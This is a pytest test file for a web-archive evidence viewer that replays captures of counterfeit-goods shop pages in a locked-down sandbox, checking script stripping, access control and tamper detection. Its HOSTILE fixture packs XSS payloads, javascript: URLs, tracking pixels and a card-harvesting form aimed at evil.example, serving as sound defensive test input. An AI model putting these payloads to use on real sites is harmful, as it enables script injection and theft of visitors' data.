"""A capture is leafed through in the console: drawn from the sealed bytes, in a frame in which nothing of it runs, and from which nothing is fetched."""

import re
from collections.abc import Sequence
from contextlib import ExitStack
from dataclasses import replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from captured import NOON, taken
from people import at, browser

from mingjian.core.capture.exchange import Exchange, Request, Response
from mingjian.core.capture.replay import AT_ONCE, RENDERED, replay, turn
from mingjian.core.capture.wacz import pack
from mingjian.core.errors import BadInput, NotFound
from mingjian.institutions.evidence.models import Capture
from mingjian.office.dossiers.opening import Opening, open_dossier
from mingjian.office.files.storage import seal
from mingjian.office.files.store import place_of
from mingjian.office.models import Dossier, Entry, Officer, SealedFile

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("sealed")]
Who = dict[str, Officer]
HOSTILE = (
    """<!doctype html><html onload="alert(1)"><head><meta http-equiv="refresh" content="0;url=https://evil.example/">
<base href="https://evil.example/"><link rel="preconnect" href="https://evil.example"><link rel="stylesheet" href="/style.css">
<style>@import url("/more.css"); body { background: url(https://evil.example/track.png) } h1::before { content: "</style><script>alert(2)</script>" }</style>
<script>fetch("/steal")</script></head><body onclick="alert(3)">
<h1 style="background:url('https://evil.example/t.gif')">高仿腕表，支持验货</h1><img src="/watch.png" onerror="alert(4)"><img src="https://evil.example/p.png">
<img src="javascript:alert(5)"><svg><script>alert(6)</script><a xlink:href="javascript:alert(7)"><text>点我</text></a><use href="https://evil.example/x.svg#a"/></svg>
<a href="https://evil.example/login" ping="https://evil.example/ping" target="_top">去支付</a><form action="https://evil.example/pay"><input name="card">
<button formaction="javascript:alert(8)">提交</button></form><iframe src="https://evil.example/" srcdoc="<script>alert(9)</script>"></iframe>
<object data="x.swf"></object><embed src="x"><video src="/film.mp4" poster="/watch.png"></video>
<template><script>alert(10)</script></template><noscript><meta http-equiv=refresh content="0;url=//evil.example"></noscript>
<p id="rest">"""
    + "正品保障，假一赔十。" * 300
    + "</p></body></html>"
)


def answer(path: str, kind: str, body: bytes, second: int = 1, status: int = 200) -> Exchange:
    url = f"http://shop.example{path}"
    sent = ((b"Content-Type", kind.encode()),)
    return Exchange(Request("GET", url, path, ()), Response(status, "OK", sent, body, "203.0.113.10"), NOON + timedelta(seconds=second))


def packed(folder: Path, *exchanges: Exchange, dom: bytes = b"", base: bool = True) -> Path:
    plain = taken()
    views = {name: data for name, data in plain.views.items() if name != "page.html"} | ({"page.html": dom} if dom else {})
    kept: Sequence[Exchange] = [*(plain.exchanges if base else ()), *exchanges]
    capture = replace(plain.capture, url="http://shop.example/hostile", final_url="http://shop.example/hostile") if exchanges else plain.capture
    file = folder / "page.wacz"
    pack(replace(plain, exchanges=kept, views=views, capture=capture), file)
    return file


def hostile(folder: Path) -> Path:
    style = b"p { color: red; background: url(watch.png) } </style><script>alert(11)</script>"
    return packed(
        folder,
        answer("/hostile", "text/html; charset=utf-8", HOSTILE.encode()),
        answer("/style.css", "text/css", style),
        answer("/more.css", "text/css", b'@import "/style.css"; div { color: blue }'),
    )


def test_what_is_drawn_runs_nothing_and_names_no_address(tmp_path: Path) -> None:
    shown = replay(hostile(tmp_path), 4)
    page = shown.html.lower()
    assert shown.answers[4].url == "http://shop.example/hostile"
    assert "高仿腕表，支持验货" in shown.html
    assert "正品保障，假一赔十。" * 300 in shown.html
    for word in ("<script", "<iframe", "<object", "<embed", "<base", "<link", "<form", "http-equiv", "formaction", "srcdoc", "javascript:", "ping="):
        assert word not in page.replace("<\\/style><script>", ""), word
    assert not re.search(r"<[^>]{0,400}\son[a-z]+\s*=", page)
    outside = [found for found in re.findall(r"(?:src|href|url\(|action|poster)\s*=?\s*[\"']?\s*([^\"'\s)>]+)", page) if not found.startswith(("data:", "#"))]
    assert outside in ([], [")"])
    assert page.count("data:image/png;base64,") >= 3  # picture, poster, and that of the style sheet
    assert "data:text/css" in page
    assert any("evil.example" in one for one in shown.left_out)


def test_the_page_stands_as_it_was_answered_and_as_its_browser_had_it(tmp_path: Path) -> None:
    file = packed(tmp_path, dom="<!doctype html><html><head><meta charset=gbk></head><body><p id=stock>库存 12</p><img src=/watch.png></body></html>".encode())
    whole = replay(file)
    assert (whole.main, whole.has_rendered, len(whole.answers)) == (1, True, 4)
    assert [one.url for one in whole.pages] == ["http://shop.example/shop"]  # not the picture, nor the redirect
    assert "原单手表" in replay(file, 1).html  # written in GBK
    assert "库存 12" not in replay(file, 1).html  # a script wrote it
    rendered = replay(file, RENDERED)
    assert "库存 12" in rendered.html
    assert "data:image/png" in rendered.html
    assert whole.answers[1].at == NOON + timedelta(seconds=1)


@pytest.mark.parametrize("record", [0, 2, 99, -7])
def test_what_is_no_page_of_it_is_not_found(tmp_path: Path, record: int) -> None:
    with pytest.raises(NotFound):
        replay(packed(tmp_path), record)


def test_an_archive_that_is_broken_or_made_to_exhaust_the_reader_is_refused_in_words(tmp_path: Path) -> None:
    (tmp_path / "none.wacz").write_bytes(b"PK\x03\x04 nothing")
    with pytest.raises(BadInput, match="无法回放"):
        replay(tmp_path / "none.wacz")
    whole = packed(tmp_path).read_bytes()
    (tmp_path / "cut.wacz").write_bytes(whole[: len(whole) // 2])
    with pytest.raises(BadInput):
        replay(tmp_path / "cut.wacz")
    deep = packed(tmp_path, answer("/hostile", "text/html", b"<div>" * 300_000 + "深处".encode()))
    assert replay(deep, 4).html  # what the parser gives up on is left out, and nothing falls
    many = packed(tmp_path, answer("/hostile", "text/html", b"<img src=/big.png>" * 5000), answer("/big.png", "image/png", b"\x89PNG" + b"0" * 2_000_000))
    shown = replay(many, 4)
    assert len(shown.html) < 40_000_000  # so much is put into a page, and no more
    assert shown.count_left_out > 4000
    assert len(shown.left_out) <= 200


def dossier_of(who: Who, name: str = "R-1") -> Dossier:
    given = {"evidence_source": "http://shop.example/", "reason": "售假"}
    li = who["li"]
    assert li.department is not None
    return open_dossier(Opening("electronic_evidence", name, "一件", officer=li), by=li, department=li.department, at=at("2026-11-26 12:00"), given=given)


def sealed_in(dossier: Dossier, who: Who, file: Path, **told: Any) -> SealedFile:
    seal([file.read_bytes()], "page.wacz", dossier=dossier, by=who["li"], at=at("2026-11-26 13:00"), **told)
    return SealedFile.objects.get(dossier=dossier)


def test_an_officer_leafs_through_it_and_the_frame_may_do_nothing(who: Who, tmp_path: Path) -> None:
    dossier = dossier_of(who)
    file = sealed_in(dossier, who, hostile(tmp_path))
    capture = Capture.objects.create(
        number="W1",
        dossier=dossier,
        url="http://shop.example/hostile",
        asked_by=who["li"],
        asked_at=NOON,
        taken_at=NOON,
        stands="kept",
        title="小店",
        archive=file,
    )
    li = browser(who["li"])
    assert f'href="/evidence/archives/{file.pk}"' in li.get(f"/evidence/captures/{capture.number}").text
    page = li.get(f"/evidence/archives/{file.pk}")
    assert page.status_code == 200
    assert re.search(r"<iframe[^>]*\ssandbox\s", page.text)
    assert 'referrerpolicy="same-origin"' in page.text  # over plain http the frame's request is known for our own by that alone
    typed = browser(who["li"]).get(f"/evidence/archives/{file.pk}/page", {"page": "4"}, headers={"Upgrade-Insecure-Requests": "1"})
    assert typed.status_code == 403  # asked first, as of all that leaves an entry
    own = {"Upgrade-Insecure-Requests": "1", "Referer": f"http://testserver/evidence/archives/{file.pk}"}
    assert li.get(f"/evidence/archives/{file.pk}/page", {"page": "4"}, headers=own).status_code == 200
    assert "frame-src 'self'" in page["Content-Security-Policy"]
    assert file.sha256 in page.text
    assert "不运行脚本" in page.text
    assert "evil.example" in page.text  # named as left out
    assert Entry.objects.filter(kind="file_handed_out", dossier=dossier).count() == 1
    framed = li.get(f"/evidence/archives/{file.pk}/page", {"page": "4"})
    policy = framed["Content-Security-Policy"]
    assert policy.startswith("default-src 'none'")
    assert policy.rstrip().endswith("sandbox")  # and allows it nothing: neither scripts nor our origin
    assert "allow-" not in policy
    assert "script" not in policy
    assert framed["X-Frame-Options"] == "SAMEORIGIN"
    assert "no-store" in framed["Cache-Control"]
    assert "高仿腕表" in framed.text
    assert "现在" not in framed.text  # nothing of the console in it
    assert li.get(f"/evidence/archives/{file.pk}", {"page": "4"}).status_code == 200
    assert Entry.objects.filter(kind="file_handed_out", dossier=dossier).count() == 1  # further pages of the same archive
    for wrong in ("x", "99999999", "99", "-1", "１"):
        assert li.get(f"/evidence/archives/{file.pk}/page", {"page": wrong}).status_code == 404, wrong


def test_an_archive_that_others_made_is_replayed_from_the_files_of_its_dossier(who: Who, tmp_path: Path) -> None:
    dossier = dossier_of(who)
    file = sealed_in(dossier, who, packed(tmp_path))
    li = browser(who["li"])
    listed = "".join(li.get(f"/dossiers/{dossier.number}{part}").text for part in ("", "?part=evidence"))
    assert f"/evidence/archives/{file.pk}" in listed
    assert "原单手表" in li.get(f"/evidence/archives/{file.pk}/page", {"page": "1"}).text


def test_nobody_else_replays_it_and_nothing_that_was_changed_is_replayed(who: Who, tmp_path: Path) -> None:
    file = sealed_in(dossier_of(who), who, packed(tmp_path))
    for path in (f"/evidence/archives/{file.pk}", f"/evidence/archives/{file.pk}/page?page=1"):
        assert browser(who["zhao"]).get(path).status_code == 404
        assert browser(who["clerk"]).get(path).status_code == 404
    place = place_of(file.sha256)
    whole = place.read_bytes()
    place.chmod(0o600)
    place.write_bytes(whole[:100] + bytes([whole[100] ^ 1]) + whole[101:])
    assert browser(who["li"]).get(f"/evidence/archives/{file.pk}/page?page=1").status_code in {404, 409}
    assert browser(who["li"]).get(f"/evidence/archives/{file.pk}").status_code in {404, 409}


def test_one_with_personal_data_asks_first_why(who: Who, tmp_path: Path) -> None:
    file = sealed_in(dossier_of(who), who, packed(tmp_path), is_personal=True)
    assert browser(who["li"]).get(f"/evidence/archives/{file.pk}").status_code == 403
    assert browser(who["li"]).get(f"/evidence/archives/{file.pk}/page?page=1").status_code == 403


def test_whatever_is_read_of_an_archive_has_its_entry_and_what_is_none_has_not(who: Who, tmp_path: Path) -> None:
    """A page of it was read by its address, framed or not, without any entry; and what was no archive was entered as handed out."""
    dossier = dossier_of(who)
    file = sealed_in(dossier, who, packed(tmp_path))
    entries = Entry.objects.filter(kind="file_handed_out", dossier=dossier)
    for path in (f"/evidence/archives/{file.pk}/page?page=1", f"/evidence/archives/{file.pk}?page=1"):
        before = entries.count()
        li = browser(who["li"])
        assert li.get(path).status_code == 200
        assert entries.count() == before + 1, path
        assert li.get(path).status_code == 200
        assert entries.count() == before + 1, path  # the same session, within the hour
    before = entries.count()
    assert browser(who["li"]).get(f"/evidence/archives/{file.pk}/page?page=99").status_code == 404
    other = seal([b"%PDF-1.4\n%%EOF"], "a.pdf", dossier=dossier, by=who["li"], at=at("2026-11-26 13:00"))
    assert browser(who["li"]).get(f"/evidence/archives/{other.pk}").status_code == 404
    assert entries.count() == before


def test_a_page_takes_one_replay_and_a_busy_node_says_so(who: Who, tmp_path: Path, settings: Any, monkeypatch: Any) -> None:
    file = sealed_in(dossier_of(who), who, packed(tmp_path))
    begun: list[int | None] = []
    monkeypatch.setattr("mingjian.institutions.evidence.captures.pages.replay", lambda place, record: begun.append(record) or replay(place, record))
    assert browser(who["li"]).get(f"/evidence/archives/{file.pk}").status_code == 200
    assert len(begun) == 1
    with ExitStack() as held:
        for _ in range(AT_ONCE):
            held.enter_context(turn(Path(settings.SEALED_ROOT)))
        with pytest.raises(BadInput, match="请稍后再试"), turn(Path(settings.SEALED_ROOT), patience=0.3):
            pass
    with turn(Path(settings.SEALED_ROOT), patience=0):
        pass
